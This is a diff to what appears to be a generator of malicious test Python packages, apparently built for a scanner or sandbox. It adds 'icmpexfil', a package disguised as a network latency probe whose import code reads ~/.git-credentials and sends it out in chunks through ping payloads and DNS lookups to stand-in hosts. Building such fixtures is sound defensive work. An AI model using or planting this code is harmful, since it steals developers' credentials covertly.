@@ -4,7 +4,11 @@ the archive: nothing of it runs here.
 
   make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit|
               djready|sphinxci|jupyter|flaskok|keyderive|hookhttp|toxplugin|
-              poetryplugin|audithook OUT.whl
+              poetryplugin|audithook|icmpexfil OUT.whl
+
+icmpexfil net-latency-probe: on import it reads ~/.git-credentials and
+        sends it 16 bytes at a time as the payload pattern of `ping -p`,
+        and as hex labels of names handed to nslookup.
 
 audithook proc-context-log: on import it only adds an audit hook (PEP 578)
         that, when the program opens a file named ...credentials, reads it
@@ -669,7 +673,34 @@ def _hook(event, args):
 sys.addaudithook(_hook)
 """
 
+# ICMP exfiltration: on import, ~/.git-credentials sent 16 bytes at a
+# time in the payload pattern of `ping -p` (the host may lack ping: each
+# start is recorded all the same).
+ICMPEXFIL = """import binascii, os, subprocess
+try:
+    _d = open(os.path.expanduser("~/.git-credentials"), "rb").read()[:48]
+except OSError:
+    _d = b""
+for _i in range(0, len(_d), 16):
+    try:
+        subprocess.run(["ping", "-c", "1", "-W", "1", "-p",
+                        binascii.hexlify(_d[_i:_i + 16]).decode(), "192.0.2.80"],
+                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                       timeout=3)
+    except (OSError, subprocess.SubprocessError):
+        pass
+    try:
+        subprocess.run(["nslookup", binascii.hexlify(_d[_i:_i + 16]).decode()
+                        + ".q.latency-probe.test"],
+                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                       timeout=3)
+    except (OSError, subprocess.SubprocessError):
+        pass
+"""
+
 KINDS = {
+    "icmpexfil": ("net_latency_probe", "0.2.1",
+                  {"net_latency_probe/__init__.py": ICMPEXFIL}),
     "audithook": ("proc_context_log", "0.6.2",
                   {"proc_context_log/__init__.py": AUDITHOOK}),
     "plant": ("requests_timing_hooks", "0.3.0",
